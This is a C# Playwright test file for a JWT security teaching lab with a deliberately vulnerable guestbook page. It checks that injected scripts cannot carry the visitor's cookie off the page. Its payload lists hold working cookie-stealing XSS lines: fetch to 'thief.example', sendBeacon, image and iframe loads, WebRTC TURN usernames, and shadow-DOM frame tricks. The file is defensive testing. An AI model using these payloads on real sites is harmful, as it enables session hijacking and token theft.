using System.Collections.Concurrent;
using System.Net;
using System.Net.Sockets;
using BlazorJwt.AuthorizationServer;
using BlazorJwt.Labs;
using BlazorJwt.Tests.Support;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;

namespace BlazorJwt.Tests.Browser;

/// <summary>What holds the labs in that stand on the other host. What they show a visitor, on both loopback names, is in
/// KeepSafeKeyboardTests.</summary>
public sealed class LabTests(AppFixture app, BrowserFixture browser) : BrowserTest(app, browser)
{
    private static readonly string[] WaysOut =
    [
        "fetch('https://thief.example/?' + document.cookie).catch(() => {})",
        "fetch('/labs/guestbook/outcome', { method: 'POST', body: document.cookie }).catch(() => {})",
        "navigator.sendBeacon('/?' + document.cookie)",
        "new Image().src = '/x.png?' + document.cookie",
        "new Image().src = 'https://thief.example/x.png?' + document.cookie",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '/app.css?' + document.cookie }))",
        "document.head.append(Object.assign(document.createElement('script'), { src: '/app.js?' + document.cookie }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: '/?' + document.cookie }))",
        "const form = Object.assign(document.createElement('form'), { action: '/', method: 'post' }); document.body.append(form); " +
            "form.submit()",
        "window.open('/?' + document.cookie)",
        "location.href = '/?' + document.cookie",
        "new EventSource('/?' + document.cookie)",
    ];

    [Fact]
    public async Task No_request_leaves_the_page_with_the_hole()
    {
        var session = await OpenAsync();
        await OpenBookAsync(session, "localhost");
        var requests = new ConcurrentQueue<string>();
        await session.Context.RouteAsync("**/*", async route =>
        {
            requests.Enqueue(route.Request.Url);
            await route.ContinueAsync();
        });
        foreach (var script in WaysOut)
        {
            await WriteAsync(session, $"<script>loot.textContent = document.cookie; setTimeout(() => {{ document.body.dataset.done = " +
                $"'yes' }}, 300); {script}</script>");
            // Asked of the page, not of its events: nothing of it is on its way any more.
            await session.Page.WaitForFunctionAsync("() => document.readyState === 'complete'");
            requests.Clear();

            var hole = await OpenTabAsync(session, "Open the page with the hole");

            await Assertions.Expect(hole.Locator("body[data-done=yes]")).ToHaveCountAsync(1);
            await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
            // The page's own address, and the note that the page beside brings to the server.
            var sent = requests.Select(url => new Uri(url).PathAndQuery).ToArray();
            Assert.True(sent.Count(path => path == "/labs/guestbook/hole") == 1
                && sent.All(path => path is "/labs/guestbook/hole" or "/labs/guestbook/outcome"), $"{script}: {string.Join(' ', sent)}");
            Assert.True(session.Context.Pages.Count == 2, script);
            await hole.CloseAsync();
        }
    }

    [Fact]
    public async Task Nothing_gets_out_of_the_page_with_the_hole_by_ways_that_no_policy_stops()
    {
        // WebRTC sends nothing on a machine without a network, so what is asked is whether a script has it: its own, and that of an empty
        // frame, which lives as long as its frame.
        const string script = """
            const f = document.createElement('iframe'); document.body.append(f);
            const s = document.createElement('script'); s.type = 'speculationrules';
            s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://127.0.0.1:TCP/?' + document.cookie], eagerness: 'immediate' }] });
            document.head.append(s);
            document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=0;url=http://127.0.0.1:TCP/>')
            setTimeout(() => { document.body.dataset.means = `${typeof RTCPeerConnection} ${typeof webkitRTCPeerConnection} ${f.isConnected}` }, 1000);
            """;
        using var tcp = new TcpListener(IPAddress.Loopback, 0);
        tcp.Start();
        var aimed = script.Replace("TCP", $"{((IPEndPoint)tcp.LocalEndpoint).Port}", StringComparison.Ordinal);
        var session = await OpenAsync();
        await OpenBookAsync(session, "localhost");
        Assert.Equal("function", await session.Page.EvaluateAsync<string>("typeof RTCPeerConnection"));
        await WriteAsync(session, $"<script>loot.textContent = document.cookie; {aimed}</script>");

        var hole = await OpenTabAsync(session, "Open the page with the hole");

        await Assertions.Expect(hole.Locator("body")).ToHaveAttributeAsync("data-means", "undefined undefined false");
        await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
        Assert.False(tcp.Pending());
    }

    // What frames can lend and what they load, in trees that can be looked into and in trees that can't.
    private static readonly string[] WaysOutByFrames =
    [
        "<iframe src=http://127.0.0.1:TCP/></iframe>",
        "<script>document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://127.0.0.1:TCP/' }))</script>",
        "<script>const h = document.createElement('div'), f = document.createElement('iframe'); document.body.append(h); " +
            "h.attachShadow({ mode: 'closed' }).append(f); go(f.contentWindow)</script>",
        "<script>const h = document.createElement('div'), f = document.createElement('iframe'); document.body.append(h); " +
            "h.attachShadow({ mode: 'closed' }).append(f); f.src = 'http://127.0.0.1:TCP/'</script>",
        "<div><template shadowrootmode=closed><iframe onload=go(this.contentWindow)></iframe></template></div>",
        "<div><template shadowrootmode=closed><iframe src=http://127.0.0.1:TCP/></iframe></template></div>",
        "<div id=h></div><script>h.setHTMLUnsafe('<p><template shadowrootmode=closed><iframe " +
            "onload=go(this.contentWindow)></iframe></template></p>')</script>",
        "<script>document.body.append(Document.parseHTMLUnsafe('<p><template shadow' + 'rootmode=closed><iframe " +
            "onload=go(this.contentWindow)></iframe></template></p>').querySelector('p'))</script>",
        "<script>document.write('<p><template shadow' + 'rootmode=closed><iframe " +
            "onload=go(this.contentWindow)></iframe></template></p>')</script>",
        "<script>const o = Object.assign(document.createElement('object'), { type: 'text/html', data: 'about:blank' }); " +
            "document.body.append(o); setTimeout(() => go(o.contentWindow), 200)</script>",
        "<script>document.body.append(Object.assign(document.createElement('embed'), { type: 'text/html', src: 'about:blank' })); " +
            "setTimeout(() => go(window[0]), 200)</script>",
    ];

    [Fact]
    public async Task No_frame_lends_the_page_with_the_hole_a_connection_or_opens_one()
    {
        using var tcp = new TcpListener(IPAddress.Loopback, 0);
        tcp.Start();
        using var udp = new UdpClient(new IPEndPoint(IPAddress.Loopback, 0));
        string Aimed(string text) => text.Replace(":TCP", $":{((IPEndPoint)tcp.LocalEndpoint).Port}", StringComparison.Ordinal)
            .Replace(":UDP", $":{((IPEndPoint)udp.Client.LocalEndPoint!).Port}", StringComparison.Ordinal);
        var go = Aimed("function go(w) { const c = new w.RTCPeerConnection({ iceServers: [{ urls: ['turn:127.0.0.1:UDP', " +
            "'turn:127.0.0.1:TCP?transport=tcp'], username: document.cookie.slice(0, 300), credential: 'x' }] }); " +
                "c.createDataChannel('a'); c.setLocalDescription() }");
        var session = await OpenAsync();
        await OpenBookAsync(session, "localhost");
        foreach (var way in WaysOutByFrames)
        {
            await WriteAsync(session, $"<script>loot.textContent = document.cookie; {go} setTimeout(() => {{ document.body.dataset.done " +
                $"= 'yes' }}, 1000)</script>{Aimed(way)}");

            var hole = await OpenTabAsync(session, "Open the page with the hole");

            await Assertions.Expect(hole.Locator("body[data-done=yes]")).ToHaveCountAsync(1);
            await Assertions.Expect(hole.Locator("#loot")).ToContainTextAsync("eyJ");
            Assert.False(tcp.Pending() || udp.Available > 0, way);
            await hole.CloseAsync();
        }

        // The same from a page that stops nothing of it: what is listened at would have noticed.
        await session.Page.EvaluateAsync($"() => {{ {go} go(window) }}");
        Assert.NotEmpty((await udp.ReceiveAsync(TestContext.Current.CancellationToken)).Buffer);
    }

    [Fact]
    public async Task A_second_visitor_who_is_there_at_the_same_time_is_untouched()
    {
        var first = await OpenAsync();
        var second = await OpenAsync();
        await OpenBookAsync(first, "localhost");
        await OpenBookAsync(second, "localhost");
        await first.Page.GetByRole(AriaRole.Button, new() { Name = "A picture that fails" }).ClickAsync();

        var hit = await OpenTabAsync(first, "Open the page with the hole");
        var untouched = await OpenTabAsync(second, "Open the page with the hole");

        await Assertions.Expect(hit.Locator("#loot")).ToContainTextAsync("eyJ");
        await Assertions.Expect(untouched.Locator("#loot")).ToHaveTextAsync("Nothing yet.");
        await Assertions.Expect(untouched.GetByText("Nothing is written yet.")).ToBeVisibleAsync();
        await Assertions.Expect(first.Page.Locator("#brought")).ToContainTextAsync("Read: localStorage");
        Assert.NotEmpty(await ResultsAsync(first, "localhost"));
        Assert.Empty(await ResultsAsync(second, "localhost"));
    }

    private string At(string name, string path) => new UriBuilder(App.BaseAddress) { Host = name, Path = path }.Uri.ToString();

    private async Task OpenBookAsync(PageSession session, string name)
    {
        await session.Page.GotoAsync(At(name, "/"));
        await session.Page.GotoAsync(At(name, "/labs/guestbook"));
        await session.Page.GetByRole(AriaRole.Link, new() { Name = "Go to the guestbook" }).ClickAsync();
        await Assertions.Expect(session.Heading).ToHaveTextAsync("Guestbook");
    }

    private static async Task WriteAsync(PageSession session, string entry)
    {
        await session.Page.GetByLabel("Or your own").FillAsync(entry);
        await session.Page.GetByRole(AriaRole.Button, new() { Name = "Write the entry" }).ClickAsync();
        await Assertions.Expect(session.Page.GetByRole(AriaRole.Button, new() { Name = "Delete the entry" })).ToBeVisibleAsync();
    }

    private static Task<IPage> OpenTabAsync(PageSession session, string link) =>
        session.Context.RunAndWaitForPageAsync(() => session.Page.GetByRole(AriaRole.Link, new() { Name = link }).ClickAsync());

    private async Task<IReadOnlyList<LabResult>> ResultsAsync(PageSession session, string name)
    {
        var visitor = (await session.Context.CookiesAsync([At(name, "/")])).Single(
            cookie => cookie.Name == "__Host-BlazorJwt-Visitor").Value;
        return App.Services.GetRequiredService<LabResults>().For(ClaimsPrincipalExtensions.SessionOf(App.VisitorIdIn(visitor))!);
    }
}
